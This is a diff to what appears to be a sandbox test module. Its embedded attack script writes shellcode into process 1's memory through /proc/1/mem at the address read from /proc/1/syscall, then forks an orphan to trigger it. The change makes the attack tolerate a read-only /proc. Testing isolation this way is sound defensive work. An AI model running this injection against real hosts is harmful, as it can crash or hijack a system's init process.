@@ -29,14 +29,17 @@ code = bytes.fromhex(
     "31ff" "b8e7000000" "0f05"                      # exit_group(0)
 )
 at = int(open("/proc/1/syscall").read().split()[-1], 16)
-memory = os.open("/proc/1/mem", os.O_RDWR)
-os.pwrite(memory, code, at)
-if os.fork() == 0:   # an orphan, whose end wakes process 1
-    if os.fork() == 0: time.sleep(0.2); os._exit(0)
-    os._exit(0)
-os.wait()
-while open("/proc/1/syscall").read().split()[0] != "35": time.sleep(0.05)
-print("rewritten", flush=True)
+try:
+    memory = os.open("/proc/1/mem", os.O_RDWR)
+except OSError: pass   # /proc is read-only: a program that will not go is all that is left of the attack
+else:
+    os.pwrite(memory, code, at)
+    if os.fork() == 0:   # an orphan, whose end wakes process 1
+        if os.fork() == 0: time.sleep(0.2); os._exit(0)
+        os._exit(0)
+    os.wait()
+    while open("/proc/1/syscall").read().split()[0] != "35": time.sleep(0.05)
+print("ready", flush=True)
 time.sleep(60)
 """
 
@@ -59,7 +62,7 @@ def attack(box, request):
         process = box.popen(*words)
         started.append(process)
         line = process.stdout.readline()
-        assert line == b"rewritten\n", process.communicate()
+        assert line == b"ready\n", process.communicate()
         return process, marker
 
     yield start
